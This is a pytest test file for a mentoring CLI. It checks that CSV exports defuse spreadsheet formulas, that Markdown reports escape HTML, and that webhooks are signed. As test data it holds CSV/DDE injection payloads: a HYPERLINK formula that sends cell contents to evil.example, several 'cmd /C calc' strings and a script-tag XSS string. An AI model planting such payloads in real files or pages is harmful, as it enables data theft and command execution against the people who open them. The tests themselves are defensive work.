"""What the CLI writes for other programs is safe to open: CSV without formulas, Markdown without HTML,
webhooks signed and escaped."""

from __future__ import annotations

import base64
import csv
import io
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from standardwebhooks import Webhook

from .conftest import EXAMPLES, Run

NAMES = {
    "Zoë Çelik": '=HYPERLINK("http://evil.example/?"&A1,"Zoë")',
    "Daniel Okafor": "+cmd|' /C calc'!A0",
    "Lotte Smit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Jeroen van den Bergh": "-2+3+cmd|' /C calc'!A0",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SECRET = "whsec_" + base64.b64encode(b"an-e2e-secret-of-thirty-two-byte").decode()


@pytest.fixture
def hostile(run: Run, tmp_path: Path) -> Path:
    """The example participants, four of them named as formulas."""
    text = EXAMPLES.read_text(encoding="utf-8")
    for name, formula in NAMES.items():
        assert name in text
        text = text.replace(name, '"' + formula.replace('"', '""') + '"')
    source = tmp_path / "hostile.csv"
    source.write_text(text, encoding="utf-8")
    assert run("init").code == 0
    imported = run("participants", "import", str(source))
    assert imported.code == 0, imported.err
    return tmp_path


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_match_propose_csv_neutralises_names_written_as_formulas(run: Run, hostile: Path) -> None:
    done = run("match", "propose", "--format", "csv")
    assert done.code == 0, done.err
    rows = _cells(done.out)
    names = {row["mentee"] for row in rows} | {row["mentor"] for row in rows}
    assert {"'" + formula for formula in NAMES.values()} <= names
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())
    as_json = json.loads(run("match", "propose", "--format", "json").out)  # JSON keeps the values
    assert NAMES["Zoë Çelik"] in {p["explanation"]["mentee"]["name"] for p in as_json["proposals"]}


def test_audit_export_csv_neutralises_a_reason_written_as_a_formula(run: Run, hostile: Path) -> None:
    assert run("advance", "1", "match", "--mentor", "E1002").code == 0
    assert run("advance", "1", "close", "--reason", "=1+2|cmd").code == 0
    done = run("audit", "export", "--format", "csv", "--output", str(hostile / "audit.csv"))
    assert done.code == 0, done.err
    rows = _cells((hostile / "audit.csv").read_text(encoding="utf-8"))
    assert [row["reason"] for row in rows if row["trigger"] == "close"] == ["'=1+2|cmd"]
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())


def test_the_markdown_report_shows_html_from_a_reason_as_text(run: Run, program: Path) -> None:
    assert run("advance", "1", "close", "--reason", "<script>alert(1)</script> & <b>bold</b>").code == 0
    done = run("report", "--format", "md")
    assert done.code == 0, done.err
    assert "<script>" not in done.out and "<b>" not in done.out
    assert "| &lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt; | 1 |" in done.out


class _Receiver:
    def __init__(self) -> None:
        self.requests: list[tuple[dict[str, str], bytes]] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                raw = self.rfile.read(int(self.headers["Content-Length"]))
                receiver.requests.append((dict(self.headers.items()), raw))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"


@pytest.fixture
def receiver(monkeypatch: pytest.MonkeyPatch) -> Iterator[_Receiver]:
    for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    server = _Receiver()
    thread = threading.Thread(target=server.server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    yield server
    server.server.shutdown()
    server.server.server_close()


def test_outbox_deliver_signs_webhooks_with_the_secret_the_settings_name(
    run: Run, program: Path, receiver: _Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    (program.parent / "mentorflow.toml").write_text(
        f'[channels]\ndefault = ["webhook"]\n[channels.webhook]\nurl = "{receiver.url}"\n'
        'secret_env = "MENTORFLOW_WEBHOOK_SECRET"\n',
        encoding="utf-8",
    )
    monkeypatch.delenv("MENTORFLOW_WEBHOOK_SECRET", raising=False)
    unset = run("outbox", "deliver", "--now", "2030-01-01T09:00")
    assert unset.code == 2 and "MENTORFLOW_WEBHOOK_SECRET, which is not set" in unset.err
    assert receiver.requests == []

    monkeypatch.setenv("MENTORFLOW_WEBHOOK_SECRET", SECRET)
    done = run("outbox", "deliver", "--now", "2030-01-01T09:00")
    assert done.code == 0, done.err
    assert receiver.requests
    for headers, raw in receiver.requests:
        assert "text" in Webhook(SECRET).verify(raw, headers)
    assert SECRET not in done.out + done.err
    assert SECRET not in run("outbox", "list", "--format", "json").out
